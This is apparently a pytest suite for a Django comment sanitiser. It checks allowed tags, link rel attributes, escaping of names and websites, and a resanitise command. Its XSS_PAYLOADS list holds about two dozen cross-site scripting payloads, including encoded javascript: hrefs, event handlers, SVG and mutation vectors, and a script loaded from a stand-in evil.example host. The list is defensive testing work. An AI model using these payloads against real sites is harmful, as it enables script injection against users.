"""What HTML a comment may carry, and the XSS payloads it must never carry."""

import io

import pytest
from bs4 import BeautifulSoup
from django.core.management import call_command

from comments.models import Comment, CommentStatus
from comments.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitize_comment
from tests.factories import make_comment

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<b onmouseover="alert(1)">bold</b>',
    '<blockquote cite="javascript:alert(1)">quote</blockquote>',
    '<q cite="javascript:alert(1)">q</q>',
    "<!--<script>alert(1)</script>-->",
    '<form action="https://evil.example"><input name=x></form>',
    '"><script>alert(1)</script>',
    "<object data=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
]


def assert_safe(html: str) -> None:
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name in ALLOWED_TAGS, tag
        for attribute, value in tag.attrs.items():
            allowed = ALLOWED_ATTRIBUTES.get(tag.name, []) + (["rel"] if tag.name == "a" else [])
            assert attribute in allowed, (tag, attribute)
            if attribute in ("href", "cite"):
                assert value.split(":", 1)[0].lower() in {"http", "https", "mailto"}, value


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised(payload):
    html = sanitize_comment(payload)
    assert_safe(html)
    lowered = html.lower()
    assert "<script" not in lowered and "<style" not in lowered and "<svg" not in lowered
    assert 'href="javascript' not in lowered


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_posted_and_approved_renders_inert(
    commented_page, post_comment, client, settings, payload
):
    settings.COMMENTS_FLOOD_SECONDS = 0
    post_comment(commented_page, body=payload + " tail")
    Comment.objects.update(status=CommentStatus.APPROVED)
    page = BeautifulSoup(client.get(commented_page.url).content, "html.parser")
    for body in page.select(".comment-body"):
        assert_safe(body.decode_contents())


def test_allowed_markup_is_kept():
    html = sanitize_comment(
        "<b>b</b> <strong>s</strong> <em>e</em> <i>i</i> <code>c</code> <del>d</del> <s>s</s> "
        '<abbr title="Physical therapy">PT</abbr> <cite>c</cite> <q cite="https://q.example">q</q>'
        '\n\n<blockquote cite="https://b.example">quoted</blockquote>\n\n<ul><li>one</li></ul>'
        "\n\n<ol><li>two</li></ol>\n\n<pre>pre</pre>"
    )
    for fragment in [
        "<b>b</b>", "<strong>s</strong>", "<em>e</em>", "<i>i</i>", "<code>c</code>",
        "<del>d</del>", "<s>s</s>", '<abbr title="Physical therapy">PT</abbr>', "<cite>c</cite>",
        '<q cite="https://q.example">q</q>', '<blockquote cite="https://b.example">quoted</blockquote>',
        "<ul><li>one</li></ul>", "<ol><li>two</li></ol>", "<pre>pre</pre>",
    ]:  # fmt: skip
        assert fragment in html


def test_disallowed_tags_are_stripped_but_their_text_kept():
    html = sanitize_comment("<h1>Big</h1> <span>words</span> <marquee>move</marquee>")
    assert html.startswith("<p>") and html.endswith("</p>")
    assert " ".join(BeautifulSoup(html, "html.parser").get_text().split()) == "Big words move"


def test_every_link_gets_rel_nofollow_ugc_noopener():
    html = sanitize_comment(
        '<a href="https://a.com" rel="follow" target="_blank" title="t">a</a> and https://b.org'
    )
    links = BeautifulSoup(html, "html.parser").find_all("a")
    assert [link["href"] for link in links] == ["https://a.com", "https://b.org"]
    assert all(link["rel"] == ["nofollow", "ugc", "noopener"] for link in links)
    assert "target" not in html
    assert links[0]["title"] == "t"


def test_mailto_links_are_allowed_but_emails_are_not_linkified():
    html = sanitize_comment('<a href="mailto:me@example.com">mail</a> or me@example.com')
    assert 'href="mailto:me@example.com"' in html
    assert html.count("<a ") == 1


@pytest.mark.parametrize(
    "text",
    ["ssh://host.example.com", "feed:https://x.com", "data:text/html,hi", "ftp://f.example.com"],
)
def test_only_http_and_https_text_is_linkified(text):
    html = sanitize_comment(text)
    assert 'href="ssh' not in html and 'href="feed' not in html
    assert 'href="data' not in html and 'href="ftp' not in html


def test_line_breaks_become_paragraphs():
    assert sanitize_comment("one\ntwo\n\nthree") == "<p>one<br>\ntwo</p>\n<p>three</p>"


def test_sanitising_twice_changes_nothing():
    for payload in XSS_PAYLOADS + ["plain\n\ntext https://x.com", "<ul><li>a</li></ul>\nb"]:
        once = sanitize_comment(payload)
        assert sanitize_comment(once) == once


@pytest.mark.django_db
def test_names_and_websites_are_escaped(commented_page, client):
    make_comment(
        commented_page,
        name='<script>alert("n")</script>',
        website='https://x.example/"><script>alert(1)</script>',
    )
    html = client.get(commented_page.url).content.decode()
    assert '<script>alert("n")</script>' not in html
    assert "&lt;script&gt;" in html


@pytest.mark.django_db
def test_only_sanitised_html_is_displayed(commented_page, client):
    make_comment(commented_page, body="<script>raw()</script>", body_html="<p>clean</p>")
    html = client.get(commented_page.url).content.decode()
    assert "raw()" not in html and "<p>clean</p>" in html


@pytest.mark.django_db
def test_resanitize_command_rebuilds_html_from_raw_body(commented_page):
    stale = make_comment(commented_page, body="hello https://x.com", body_html="<p>old</p>")
    fresh = make_comment(commented_page, body="unchanged")
    out = io.StringIO()
    call_command("resanitize_comments", stdout=out)
    stale.refresh_from_db()
    assert stale.body_html == sanitize_comment("hello https://x.com")
    assert "Checked 2 comments; updated 1." in out.getvalue()
    fresh.refresh_from_db()
    assert fresh.body_html == "<p>unchanged</p>"
